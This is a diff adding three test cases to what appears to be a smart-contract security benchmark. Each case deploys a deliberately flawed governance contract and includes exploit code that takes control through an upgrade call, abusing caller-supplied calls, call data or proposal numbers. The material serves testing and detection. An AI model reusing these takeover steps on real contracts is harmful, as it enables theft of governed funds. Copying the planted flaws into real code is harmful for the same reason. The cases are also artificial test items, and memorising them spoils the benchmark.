@@ -191,6 +191,47 @@ const drafts: readonly Draft[] = [
       await attack.send(governor, 'execute(uint256)', [1n])
     },
   },
+  {
+    name: 'a proposal that has passed lets every caller call any contract, from lists in memory',
+    by: 'anyone',
+    build: passedByNumber('GivenCallsBallots', (built) => part(built, 'controller')),
+    exploit: async (attack, built) => {
+      await attack.wait(700_000)
+      const calls = [[part(built, 'admin')], [upgradeCall(built.address, attack.code)]]
+      await attack.send(part(built, 'controller'), 'execute(uint256,address[],bytes[])', [1n, ...calls])
+    },
+  },
+  {
+    name: 'a proposal that has passed calls its target with data of the caller, from memory',
+    by: 'anyone',
+    build: passedByNumber('GivenDataBallots', (built) => part(built, 'admin')),
+    exploit: async (attack, built) => {
+      await attack.wait(700_000)
+      const data = upgradeCall(built.address, attack.code)
+      await attack.send(part(built, 'controller'), 'execute(uint256,bytes)', [1n, data])
+    },
+  },
+  {
+    name: 'one of two numbers that the caller gives is of a proposal that has passed',
+    by: 'anyone',
+    build: async (chain) => {
+      const council = await chain.council()
+      const token = await chain.deploy('CheckpointToken', council)
+      const governor = await chain.deploy('ChosenNumberBallots', token)
+      const built = await controlledBy(chain, governor, { token })
+      await chain.send(token, 'delegate(address)', [council], council)
+      await chain.send(governor, PROPOSE, [governor, '0x'])
+      await chain.send(governor, VOTE, [proposal(governor, '0x'), true], council)
+      return built
+    },
+    exploit: async (attack, built) => {
+      await attack.wait(700_000)
+      const governor = part(built, 'controller')
+      const id = proposal(governor, '0x')
+      const call = [part(built, 'admin'), upgradeCall(built.address, attack.code)]
+      await attack.send(governor, 'run(bytes32,bytes32,bool,address,bytes)', [id, id, true, ...call])
+    },
+  },
 ]
 
 export const proposals: readonly Case[] = drafts.map((draft) => ({ truth: WEAK, cause: 'lying getter', ...draft }))
